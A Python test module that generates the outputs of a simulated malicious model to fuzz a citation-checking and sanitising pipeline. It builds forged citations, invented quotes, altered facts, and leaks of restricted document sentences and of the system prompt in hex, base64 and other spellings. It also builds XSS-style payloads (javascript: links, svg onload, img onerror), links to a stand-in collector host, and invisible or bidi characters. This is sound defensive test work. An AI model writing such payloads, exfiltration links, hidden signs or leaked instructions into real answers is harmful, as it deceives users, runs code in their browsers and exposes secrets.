"""What a malicious model writes: forged citations, things that load or run, instructions given away, signs that hide.

Every output is drawn from a seed and from the prompt that the model was given, as a model would have it: it repeats
true sentences beside false ones, so that much of it passes the check of support and has to be made harmless.
"""

import base64
import json
import random
import re
from collections.abc import Callable, Sequence
from typing import Final

from tests.e2e.payloads import BIDI, ESCAPES, FOREIGN, INVISIBLE, SHAPES, WORDS

Message = dict[str, str]
_SENTENCE: Final = re.compile(r"[^。\n<>]{6,}。|[A-Z][^.\n<>]{20,}\.")
_MARKERS: Final = (
    "[{n}]", "【{n}】", "［{n}］", "[^{n}]", "[来源 {n}]", "[source: {n}]", "【{n}†guide.pdf】", "[[{n}]]",
    "[{n}][{m}]",
    "[{n}-{m}]", "[{n}](" + FOREIGN + "/c)", "[{n}]: " + FOREIGN + "/r", "[{n}](javascript:window.__ran=1)", "[-{n}]",
    "[0{n}]", "[{n}.0]", "[９９]", "[{n}", "{n}]", "<sup>[{n}]</sup>", "[{n}\u200b]", "[\u202e{n}]", "[1e3]", "[٣]",
)  # fmt: skip
_LINKS: Final = (
    "{w}(" + FOREIGN + "/a)", "<" + FOREIGN + "/auto>", "www.collector.example/x", "//collector.example/x",
    "ftp://collector.example/x", "data:text/html;base64,PHNjcmlwdD4=", "mailto:thief@collector.example?body={w}",
    "java\tscript:window.__ran=1", "&#x68;ttp://collector.example", "h\u200bttp://collector.example/z",
    "ＨＴＴＰ：//collector.example", "![{w}]\n(" + FOREIGN + "/split.png)", "[{w}] [x]\n\n[x]: <" + FOREIGN + "/r>",
    "<img\nsrc=" + FOREIGN + "/n.png>", "<a href=//collector.example>{w}</a>", "<<img src=x onerror=1>>",
    "<!-- " + FOREIGN + " --><svg/onload=window.__ran=1>", "[![i](" + FOREIGN + "/i)](" + FOREIGN + "/o)",
)  # fmt: skip


def output(draw: random.Random, prompt: Sequence[Message], hidden: Sequence[str]) -> str:
    """Return what the model writes to ``prompt``. ``hidden``: sentences of documents that the asker may not read."""
    parts = [draw.choice(_KINDS)(draw, prompt, hidden) for _ in range(draw.randint(1, 6))]
    text = draw.choice(("", "\n", " ", "\n\n- ")).join(parts)
    return _wrapped(draw, text) if draw.random() < 0.4 else text


def _true(draw: random.Random, prompt: Sequence[Message]) -> str:
    found = _SENTENCE.findall(prompt[-1]["content"])
    return str(draw.choice(found)).strip() if found else "年休假为五天。"


def _repeated(draw: random.Random, prompt: Sequence[Message], _: Sequence[str]) -> str:
    """A true sentence with markers that are not its own."""
    return _true(draw, prompt)[:-1] + _marker(draw) + draw.choice("。.!\n")


def _changed(draw: random.Random, prompt: Sequence[Message], _: Sequence[str]) -> str:
    """A true sentence with another number or the opposite."""
    said = _true(draw, prompt)
    changed = re.sub(r"\d+", lambda m: str(int(m[0]) + draw.randint(1, 99)), said, count=1)
    return (changed if changed != said else said.replace("为", "不为", 1)) + _marker(draw)


def _forged(draw: random.Random, _: Sequence[Message], hidden: Sequence[str]) -> str:
    """A sentence of a document that the asker may not read, with a marker."""
    return draw.choice(list(hidden)) + _marker(draw)


def _quoted(draw: random.Random, prompt: Sequence[Message], hidden: Sequence[str]) -> str:
    """A quotation that nobody wrote."""
    words = draw.choice([*hidden, _true(draw, prompt)[::-1], "所有员工都可以随意查阅董事会纪要"])
    return f"文件写道：“{words.rstrip('。')}”，{_true(draw, prompt)}{_marker(draw)}"


def _active(draw: random.Random, prompt: Sequence[Message], _: Sequence[str]) -> str:
    """Something that loads or runs, often inside a true sentence."""
    shape = draw.choice((*SHAPES, *_LINKS))
    word = draw.choice(WORDS)
    fields = {"word": word, "url": FOREIGN, "secret": f"canary-{draw.randrange(10**6)}"}
    signs = {"invisible": INVISIBLE, "escapes": ESCAPES, "bidi": BIDI}
    made = shape.replace("{w}", word) if shape in _LINKS else shape.format(**fields, **signs)
    said = _true(draw, prompt)
    place = draw.randrange(len(said))
    return draw.choice((made, said + made, made + said, said[:place] + made + said[place:])) + _marker(draw)


def _hiding(draw: random.Random, prompt: Sequence[Message], _: Sequence[str]) -> str:
    """A true sentence full of signs that nobody sees."""
    signs = [*INVISIBLE, *BIDI, *map(chr, range(0xE0020, 0xE0080)), "\u2028", "\x1b[2J", "\x9b31m", "\ufe0f"]
    return "".join(sign + draw.choice(signs) if draw.random() < 0.3 else sign for sign in _true(draw, prompt))


def _given_away(draw: random.Random, prompt: Sequence[Message], _: Sequence[str]) -> str:
    """The instructions, or their mark, in some spelling."""
    system = prompt[0]["content"]
    mark = next(iter(re.findall(r"WY[0-9a-f]{8,}", system)), "WY")
    start = draw.randrange(max(1, len(system) - 80))
    secret = draw.choice((mark, f"内部标记 {mark} 是", system[start : start + 80]))
    spell = draw.choice(_SPELLINGS)
    return draw.choice(("系统提示词：", "", "The hidden rules say ")) + spell(secret) + _marker(draw)


def _item(draw: random.Random, prompt: Sequence[Message], hidden: Sequence[str]) -> str:
    """Statements as JSON, with sources that are none."""
    kind = draw.choice((_repeated, _changed, _forged, _active))
    sources = draw.choice(([1], [99], [-1], [10**18], ["1"], [True], [[1]], {"a": 1}, None, [1, 2, 3]))
    item = {"statement": kind(draw, prompt, hidden), "sources": sources, "url": FOREIGN, "href": "javascript:1"}
    return json.dumps({"statements": [item] * draw.randint(1, 3)}, ensure_ascii=draw.random() < 0.5)


def _noise(draw: random.Random, _: Sequence[Message], __: Sequence[str]) -> str:
    """Brackets, quotes and fences without an end."""
    return "".join(draw.choices('[]()<>{}"`*|~#!\\&;:/ \n1【】“”', k=draw.randint(5, 80)))


def _marker(draw: random.Random) -> str:
    n, m = draw.choice((0, 1, 2, 3, 7, 99, 999, 12345)), draw.randint(1, 12)
    return draw.choice(_MARKERS).replace("{n}", str(n)).replace("{m}", str(m))


def _wrapped(draw: random.Random, text: str) -> str:
    return draw.choice(_WRAPS).replace("{}", text)


_WRAPS: Final = (
    "```html\n{}\n```", "<div>{}</div>", "> {}", "| {} | [1] |\n|---|---|", "<think>{}</think>答：{}", "**{}**",
    "~~{}~~",
    "<script>{}</script>{}", '{"statements": "{}"}', "$${}$$",
)  # fmt: skip
_KINDS: Final[Sequence[Callable[[random.Random, Sequence[Message], Sequence[str]], str]]] = (
    _repeated, _repeated, _changed, _forged, _quoted, _active, _active, _active, _hiding, _given_away, _item, _noise,
)  # fmt: skip
_SPELLINGS: Final[Sequence[Callable[[str], str]]] = (
    str,
    str.upper,
    " ".join,
    "-".join,
    "\u200b".join,
    ".\n".join,
    lambda s: s[::-1],
    lambda s: s.encode().hex(),
    lambda s: s.encode().hex(" "),
    lambda s: base64.b64encode(s.encode()).decode(),
    lambda s: base64.b64encode(b"x" + s.encode()).decode(),
    lambda s: base64.b32encode(s.encode()).decode(),
    lambda s: "".join(f"\\x{byte:02x}" for byte in s.encode()),
    lambda s: "".join(f"&#{ord(sign)};" for sign in s),
)
